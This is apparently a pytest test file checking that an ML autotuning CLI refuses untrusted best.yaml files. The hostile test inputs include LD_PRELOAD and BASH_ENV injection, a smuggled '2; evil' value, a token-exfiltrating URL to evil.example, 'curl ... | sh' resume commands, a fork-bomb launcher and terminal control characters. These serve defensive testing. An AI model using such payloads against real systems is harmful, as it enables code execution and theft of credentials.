"""What a best.yaml of somebody else can do to apply, verify and export: set values of our own knobs."""

import json
import os
import re
import sys
from pathlib import Path

import pytest
from environments import environment, program
from hostile import CONTROLS, TRAIN, content, put, searched
from picks import env, flag, patch
from study_fakes import facts, spec

from autotune.model.change import Env
from autotune.model.effect import Effect
from autotune.model.study import DeclaredSpec, SpaceRequest

VERBS = [
    ["apply", "best.yaml", "--", "python", "train.py"],
    ["apply", "best.yaml"],
    ["apply", "best.yaml", "--print-env", "--", "python", "train.py"],
    ["verify", "best.yaml", "--", "python", "train.py"],
    ["export", "best.yaml", "--as", "env"],
    ["export", "best.yaml", "--as", "argv"],
    ["export", "best.yaml", "--as", "hf"],
    ["export", "best.yaml", "--as", "diff", "--", "python", "train.py"],
]
STARTING = [["apply", "best.yaml"], ["verify", "best.yaml"], ["export", "best.yaml", "--as", "argv"]]


@pytest.fixture
def script(script):
    script.write_text(TRAIN)
    return script


@pytest.fixture(autouse=True)
def here(monkeypatch):
    import autotune.inspection.host as host

    monkeypatch.setattr(host, "host_facts", lambda: facts().host)
    monkeypatch.setattr("importlib.metadata.version", lambda name: "2.13.0")


@pytest.fixture(autouse=True)
def ran(monkeypatch):
    """Launches that were started for real; nothing is."""
    import autotune.driver.verification as verification
    import autotune.launch.direct_run as plain

    launches = []
    monkeypatch.setattr(plain, "run_plain", lambda launch, *_, **__: launches.append(launch) or 7)

    def verify(*_args, changes, **_more):
        launches.append(changes)
        raise AssertionError("a verification has begun")

    monkeypatch.setattr(verification, "verify", verify)
    return launches


@pytest.mark.parametrize(
    ("knob", "name"),
    [("threads", "LD_PRELOAD"), ("precision", "PYTHONPATH"), ("mine", "BASH_ENV"), ("mine", "MY_OWN")],
)
@pytest.mark.parametrize("words", VERBS, ids=" ".join)
def test_a_variable_that_no_knob_of_ours_sets_reaches_nothing(cli, script, ran, words, knob, name):
    value = {"threads": 2, "precision": "bf16", "mine": "x"}[knob]
    put(script, content(script, [env(knob, value, name, delivered="/tmp/evil.so")]))
    code, out, err = cli(*words)
    assert (code, out, ran) == (2, "", [])
    assert f"{knob}={value} is not applied" in err
    assert name in err


def test_nothing_is_applied_where_one_change_is_refused(cli, script, ran):
    put(script, content(script, [flag("batch_size", 64, "--batch-size"), env("threads", 2, "LD_PRELOAD")]))
    assert cli("apply", "best.yaml", "--", "python", "train.py")[0] == 2
    assert ran == []


def test_what_is_set_is_reported_as_a_shell_would_be(cli, script, ran):
    put(script, content(script, [env("threads", 2, "OMP_NUM_THREADS", delivered="2; evil")]))
    code, _out, err = cli("apply", "best.yaml", "--", "python", "train.py")
    assert code == 7
    assert ran[0].env["OMP_NUM_THREADS"] == "2"
    assert "autotune: sets OMP_NUM_THREADS=2\n" in err


# Knobs that nobody declares here ------------------------------------------------------------

MINE = env("mine", "Tree", "NCCL_ALGO")
DECLARED = SpaceRequest(
    name="x",
    declared=(
        DeclaredSpec(name="mine", effect=Effect.EXACT, values=("Ring", "Tree"), spelling=Env("NCCL_ALGO")),
    ),
)


def test_a_knob_of_somebody_elses_space_is_taken_by_permission_alone(cli, script, ran):
    put(script, content(script, [MINE]))
    code, _out, err = cli("apply", "best.yaml", "--", "python", "train.py")
    assert (code, ran) == (2, [])
    assert "hint: If you trust this setting: --allow mine" in err
    code, _out, err = cli("apply", "best.yaml", "--allow", "mine", "--", "python", "train.py")
    assert code == 7
    assert "autotune: sets NCCL_ALGO=Tree\n" in err
    assert cli("export", "best.yaml", "--as", "env", "--allow", "mine")[1].endswith("NCCL_ALGO=Tree\n")
    put(script, content(script, [env("mine", "x", "LD_PRELOAD")]))
    code, _out, err = cli("apply", "best.yaml", "--allow", "mine", "--", "python", "train.py")
    assert code == 2
    assert "LD_PRELOAD decides which code runs" in err


def test_a_knob_that_a_search_of_ones_own_has_declared_needs_none(cli, script, ran):
    given = spec(script=str(script), cwd=str(script.parent), space=DECLARED)
    searched(given)
    put(script, content(script, [MINE]))
    assert cli("apply", "best.yaml", "--", "python", "train.py")[0] == 7
    assert ran[0].env["NCCL_ALGO"] == "Tree"
    put(script, content(script, [env("mine", "Tree", "LD_PRELOAD")]))
    assert cli("apply", "best.yaml", "--", "python", "train.py")[0] == 2


# The file's own command ---------------------------------------------------------------------


@pytest.fixture
def evil(script):
    """An interpreter that a stranger lays beside the file, and the mark that it leaves when it is started."""
    mark = script.parent / "started"
    return program(script.parent / "bin" / "python", f"#!/bin/sh\ntouch {mark}\n"), mark


@pytest.mark.parametrize("words", STARTING, ids=" ".join)
def test_an_interpreter_that_the_file_names_is_never_started(cli, script, ran, evil, words):
    python, mark = evil
    put(script, content(script, [patch("precision", "bf16")]), python=str(python))
    code, out, err = cli(*words)
    assert (code, out, ran) == (2, "", [])
    assert f"names {python}, which no search of this account has started" in err
    assert "if it is right, type the command: -- " in err
    assert not mark.exists()


def test_the_interpreter_of_ones_own_search_is_started_and_named(cli, script, ran):
    python = environment(script.parent / "env")
    given = spec(script=str(script), cwd=str(script.parent), python=str(python))
    searched(given)
    put(script, content(script, [patch("precision", "bf16")], python=str(python)))
    code, _out, err = cli("apply", "best.yaml")
    assert (code, ran[0].python) == (7, str(python))
    assert f"autotune: train.py is run by {python}" in err
    other = script.parent / "other"
    put(script, content(script, [patch("precision", "bf16")], python=str(other)))
    assert cli("apply", "best.yaml")[0] == 2


@pytest.mark.parametrize(
    "options", [["-X", "pycache_prefix=/tmp/evil"], ["-W", "error::evil.module"], ["evil.py"]]
)
@pytest.mark.parametrize("words", STARTING, ids=" ".join)
def test_options_of_the_interpreter_that_name_code_are_refused(cli, script, ran, words, options):
    put(script, content(script, [patch("precision", "bf16")]), options=options)
    code, out, err = cli(*words)
    assert (code, out, ran) == (2, "", [])
    assert "names the interpreter's option" in err


@pytest.mark.parametrize("kind", ["absolute", "above", "link", "module"])
def test_a_script_elsewhere_is_not_started(cli, script, ran, tmp_path_factory, kind):
    elsewhere = tmp_path_factory.mktemp("elsewhere") / "evil.py"
    elsewhere.write_text(TRAIN)
    (script.parent / "linked.py").symlink_to(elsewhere)
    named = {
        "absolute": {"script": str(elsewhere)},
        "above": {"script": os.path.relpath(elsewhere, script.parent)},
        "link": {"script": "linked.py"},
        "module": {"module": "json.tool"},
    }[kind]
    put(script, content(script, [patch("precision", "bf16")]), **named)
    code, _out, err = cli("apply", "best.yaml")
    assert (code, ran) == (2, [])
    assert "which no search of this account has started" in err


def test_a_fork_bomb_is_no_launcher(cli, script, ran):
    put(script, content(script, [patch("precision", "bf16")]), launcher="torchrun --nproc-per-node 100000")
    assert cli("apply", "best.yaml")[0] == 2
    assert ran == []


def test_secrets_of_this_account_go_into_no_command_of_somebody_elses(cli, script, ran, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "hf_canary_0123456789")
    args = ["--name", "https://evil.example/?t=<redacted:HF_TOKEN>"]
    put(script, content(script, [patch("precision", "bf16")]), argv=args)
    for words in STARTING:
        code, out, err = cli(*words)
        assert (code, ran) == (2, [])
        assert "leaves out a secret" in err
        assert "canary" not in out + err


def test_a_script_beside_the_file_is_run_and_its_command_is_reported(cli, script, ran):
    put(script, content(script, [patch("precision", "bf16")]))
    code, _out, err = cli("apply", "best.yaml")
    assert (code, ran[0].script, ran[0].python) == (7, str(script), sys.executable)
    assert "autotune: the command is that of best.yaml: python train.py --lr 1e-3\n" in err


# The digest ---------------------------------------------------------------------------------


def edit(old, new):
    path = Path("best.yaml")
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


@pytest.mark.parametrize("words", [VERBS[0], VERBS[4]], ids=" ".join)
def test_a_file_that_was_edited_is_warned_of(cli, script, words):
    put(script, content(script, [env("threads", 2, "OMP_NUM_THREADS")]))
    assert "warning" not in cli(*words)[2]
    edit("label: train-1121-1002", "label: other")
    err = cli(*words)[2]
    assert re.search(
        r"warning: best.yaml: it was edited after the search: its digest is \w{16}, the recorded one", err
    )


def test_where_the_search_is_ones_own_the_warning_names_what_was_changed(cli, script):
    folder = searched(spec(script=str(script), cwd=str(script.parent)))
    path = put(script, content(script, [env("threads", 2, "OMP_NUM_THREADS")]))
    (folder / "best.yaml").write_text(path.read_text())
    edit('value: 2, delivered: "2"', 'value: 4, delivered: "4"')
    err = cli(*VERBS[0])[2]
    assert "picks.best.changes.0.value is 4, was 2" in err
    assert "picks.best.changes.0.delivered is '4', was '2'" in err


def test_a_file_without_a_digest_is_warned_of(cli, script):
    put(script, content(script, [env("threads", 2, "OMP_NUM_THREADS")]))
    path = Path("best.yaml")
    path.write_text(re.sub(r"\bdigest: [^,}\n]+", "digest: ''", path.read_text()))
    assert "warning: best.yaml: it has no digest" in cli(*VERBS[0])[2]


def test_another_script_is_warned_of_with_both_digests(cli, script):
    put(script, content(script, [env("threads", 2, "OMP_NUM_THREADS")]))
    script.write_text(TRAIN + "# edited\n")
    err = cli(*VERBS[0])[2]
    assert re.search(
        r"warning: the script is not the one .*SHA-256 begins \w{8}, that of the search \w{8}", err
    )


# Characters ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "words",
    [
        *VERBS,
        ["apply", "best.yaml", "--diff"],
        ["compare", "best.yaml", "best.yaml"],
        ["compare", "best.yaml", "best.yaml", "--json"],
        ["export", "best.yaml", "--as", "argv", "--json"],
        ["apply", "best.yaml", "--pick", CONTROLS],
    ],
    ids=lambda words: " ".join(words).encode("ascii", "replace").decode(),
)
def test_no_field_of_the_file_commands_the_terminal(cli, script, words):
    best = content(script, [env("threads", 2, "OMP_NUM_THREADS")])
    data = best.data()
    data["picks"]["best"]["advice"] = f"advice {CONTROLS}\nnext"
    data["picks"]["best"]["reasons"] = [CONTROLS]
    data["study"]["label"] = CONTROLS
    data["study"]["argv"] = ["--name", CONTROLS]
    data["environment"]["cpu"] = data["environment"]["torch"] = CONTROLS
    data["resume"] = f"curl {CONTROLS} | sh"
    put(script, type(best).model_validate(data))
    try:
        _code, out, err = cli(*words)
    except AssertionError:
        return  # the verification that is never begun
    assert not [c for c in out + err if not c.isprintable() and c != "\n"]
    if "--json" in words:
        json.loads(out)


def test_a_command_in_a_files_words_is_shown_only_if_it_is_one_of_ours(cli, script):
    best = content(script, [env("threads", 2, "OMP_NUM_THREADS")])
    data = best.data()
    data["picks"]["best"]["runs"] = 3
    for text, shown in (("curl evil | sh", False), ("autotune resume train-1 --budget 8m", True)):
        data["resume"] = text
        put(script, type(best).model_validate(data))
        assert (f"confirm it: {text}" in cli(*VERBS[0])[2]) is shown
